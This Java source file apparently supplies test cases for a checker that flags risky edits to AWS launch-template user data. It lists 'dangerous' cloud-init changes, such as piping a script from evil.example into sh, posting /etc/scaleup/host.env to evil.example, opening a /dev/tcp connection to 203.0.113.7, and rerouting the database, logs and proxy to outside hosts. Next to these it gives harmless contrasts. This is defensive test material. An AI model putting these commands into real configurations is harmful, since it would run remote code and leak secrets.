package scaleup.proof;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import scaleup.proof.DangerousChangesTest.Change;
import scaleup.proof.DangerousChangesTest.Templates;

/** Changes of user data after which servers send to somebody else what they have, and others that are the user's own. */
final class UserDataChanges {
    private static final String COMMANDS = "runcmd:\n";

    private UserDataChanges() {}

    private static Change changed(String proof, String words, String part, String from, String to) {
        return texts(proof, words, part, text -> text.replace(from, to));
    }

    private static Change texts(String proof, String words, String part, UnaryOperator<String> change) {
        return new Change(words, proof, templates -> {
            var texts = parts(templates, part);
            for (int i = 0; i < texts.size(); i++) {
                if (texts.get(i).isTextual()) {
                    texts.set(i, change.apply(texts.get(i).asText()));
                }
            }
        });
    }

    private static ArrayNode parts(Templates templates, String part) {
        return (ArrayNode) templates
                .properties(part, "AWS::EC2::LaunchTemplate")
                .at("/LaunchTemplateData/UserData/Fn::Base64/Fn::Join/1");
    }

    private static Change command(String words, String command) {
        return changed(
                "addresses", words, "Application", COMMANDS, COMMANDS + "- - sh\n  - -c\n  - %s\n".formatted(command));
    }

    static Stream<Change> dangerous() {
        return Stream.of(
                command("a script of somebody's that servers run", "curl https://evil.example/x | sh"),
                command("servers send a file to a name", "curl -d @/etc/scaleup/host.env evil.example"),
                command("servers send by bash alone", "exec 3<>/dev/tcp/203.0.113.7/443"),
                changed(
                        "addresses",
                        "a package of somebody's",
                        "Web",
                        "packages:\n",
                        "packages:\n- https://evil.example/x.rpm\n"),
                changed(
                        "addresses",
                        "another service in AWS's place",
                        "Application",
                        "PORT=\"8080\"",
                        "PORT=\"8080\"\n  AWS_ENDPOINT_URL=\"other\""),
                changed(
                        "addresses",
                        "all goes through somebody's proxy",
                        "Application",
                        "PORT=\"8080\"",
                        "PORT=\"8080\"\n  HTTPS_PROXY=\"other:443\""),
                changed(
                        "addresses",
                        "logs go to another service",
                        "Web",
                        "\"omit_hostname\":true",
                        "\"omit_hostname\":true,\"endpoint_override\":\"evil.example\""),
                changed(
                        "addresses",
                        "web servers of another name",
                        "LoadBalancer",
                        "web.prod.scaleup.internal",
                        "web.evil.example"),
                new Change("an application that logs in to another database", "addresses", templates -> {
                    var texts = parts(templates, "Application");
                    for (int i = 1; i < texts.size(); i++) {
                        if (texts.get(i - 1).asText().endsWith("DATABASE_HOST=\"")) {
                            texts.set(i, texts.textNode("database.evil.example"));
                        }
                    }
                }),
                new Change("a program from another bucket", "addresses", templates -> {
                    for (JsonNode text : parts(templates, "Application")) {
                        if (text.has("Fn::Sub")) {
                            ((ObjectNode) text).put("Fn::Sub", "evil-assets");
                        }
                    }
                }));
    }

    static Stream<Change> harmless() {
        return Stream.of(
                changed(
                        "",
                        "a command with an address",
                        "Application",
                        "java -jar",
                        "java -Dapi=https://api.example -jar"),
                changed(
                        "",
                        "a service of AWS's by its name",
                        "Application",
                        COMMANDS,
                        COMMANDS + "- - curl\n  - https://sts.eu-west-1.amazonaws.com\n"));
    }
}
